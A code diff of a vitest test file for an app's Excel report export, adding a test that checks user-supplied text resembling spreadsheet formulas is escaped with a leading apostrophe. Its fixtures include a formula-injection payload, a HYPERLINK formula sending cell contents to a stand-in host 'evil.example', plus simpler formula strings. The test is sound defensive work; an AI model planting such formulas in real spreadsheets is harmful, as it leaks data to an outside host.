@@ -5,8 +5,8 @@ import path from 'node:path';
 import { promisify } from 'node:util';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { asc } from 'drizzle-orm';
-import { surfaces } from '../db/schema';
+import { asc, eq } from 'drizzle-orm';
+import { surfaces, users } from '../db/schema';
 import { createTestApp, type TestApp } from './test-app';
 import { buildPromotion, newStation, newSurface, reportView, setAmounts, userIdByEmail } from './print-flow-fixture';
 
@@ -183,19 +183,7 @@ describe('Excel report', () => {
 
   it('opens in LibreOffice with the numbers of the report view', { timeout: 180_000 }, async () => {
     const { file } = await download(admin, { display_address: 'true', display_categories: 'true', number_percent: 7 }, 'libre.xlsx');
-    const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'promo-lo-profile-'));
-    try {
-      // Fails (ENOENT) when LibreOffice is not installed: CI must have libreoffice-calc-nogui.
-      await run(
-        'libreoffice',
-        [`-env:UserInstallation=file://${profile}`, '--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', tmp, file],
-        { timeout: 150_000 },
-      );
-    } finally {
-      fs.rmSync(profile, { recursive: true, force: true });
-    }
-    const csv = fs.readFileSync(path.join(tmp, 'libre.csv'), 'utf8');
-    const lines = parseCsv(csv);
+    const lines = await asCsvByLibreOffice(file);
     const view = (await reportView(t, admin, promotion.id, 7)).json().data as { columns: Column[]; user_obj: Row[] };
     const header = lines[3]!;
     const byName = new Map(view.columns.map((c) => [c.name, c]));
@@ -219,6 +207,55 @@ describe('Excel report', () => {
     pick('Total pris / Total price', (c) => c.total_price!);
   });
 });
+
+describe('Excel report cells from user text (issue 22)', () => {
+  it('starts text that a spreadsheet would take for a formula with an apostrophe, as LibreOffice reads it back', { timeout: 180_000 }, async () => {
+    const printerId = await userIdByEmail(t, 'printer@demo.no');
+    const surface = await newSurface(t, admin, { printerId, name: '@SUM(1+1)' });
+    const hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Klikk")';
+    const [a, b, c, d] = [
+      await newStation(t, admin, { group: 'DO', categories: ['Fuel'], name: hyperlink }),
+      await newStation(t, admin, { group: 'DO', categories: ['Fuel'], name: '-2+3' }),
+      await newStation(t, admin, { group: 'DO', categories: ['Fuel'] }),
+      await newStation(t, admin, { group: 'DO', categories: ['Fuel'], name: 'Vanlig stasjon' }),
+    ];
+    // Tab and carriage return: the forms refuse control characters, older rows may hold them.
+    await t.database.db.update(users).set({ name: '\t=4+5' }).where(eq(users.id, c.id));
+    await t.database.db.update(users).set({ post_address: '\r=6+7' }).where(eq(users.id, b.id));
+    await setAmounts(t, [a, b, c, d].map((s) => ({ stationId: s.id, surfaceId: surface, amount: 2 })));
+    const own = await buildPromotion(t, { manager: admin }, { surfaces: [surface], designs: [{ surface, category: 'Fuel' }] });
+    const made = await makeFile(admin, { promotion_id: own.id, promotion_name: '+8+9', display_address: 'true', display_categories: '', number_percent: '' });
+    expect(made.statusCode, made.body).toBe(200);
+    const res = await t.app.inject({ method: 'GET', url: made.json().data.file as string, headers: { authorization: admin } });
+    const file = path.join(tmp, 'formulas.xlsx');
+    fs.writeFileSync(file, res.rawPayload);
+
+    const lines = await asCsvByLibreOffice(file);
+    expect(lines[0]![0]).toBe("'+8+9");
+    expect(lines[3]![2]).toMatch(/^'@SUM\(1\+1\) - /);
+    const row = (name: string) => lines.find((l) => l[0] === name);
+    expect(row(`'${hyperlink}`)).toBeTruthy();
+    expect(row("'-2+3")![1]).toMatch(/^'[\r\n]+=6\+7, 0150 Oslo$/);
+    expect(row("'\t=4+5")).toBeTruthy();
+    // Text that is no formula stays as it is.
+    expect(row('Vanlig stasjon')).toBeTruthy();
+  });
+});
+
+async function asCsvByLibreOffice(file: string): Promise<string[][]> {
+  const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'promo-lo-profile-'));
+  try {
+    // Fails (ENOENT) when LibreOffice is not installed: CI must have libreoffice-calc-nogui.
+    await run(
+      'libreoffice',
+      [`-env:UserInstallation=file://${profile}`, '--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', tmp, file],
+      { timeout: 150_000 },
+    );
+  } finally {
+    fs.rmSync(profile, { recursive: true, force: true });
+  }
+  return parseCsv(fs.readFileSync(path.join(tmp, `${path.basename(file, '.xlsx')}.csv`), 'utf8'));
+}
 
 /** RFC 4180 CSV (quoted fields may hold commas, quotes and new lines). */
 function parseCsv(text: string): string[][] {
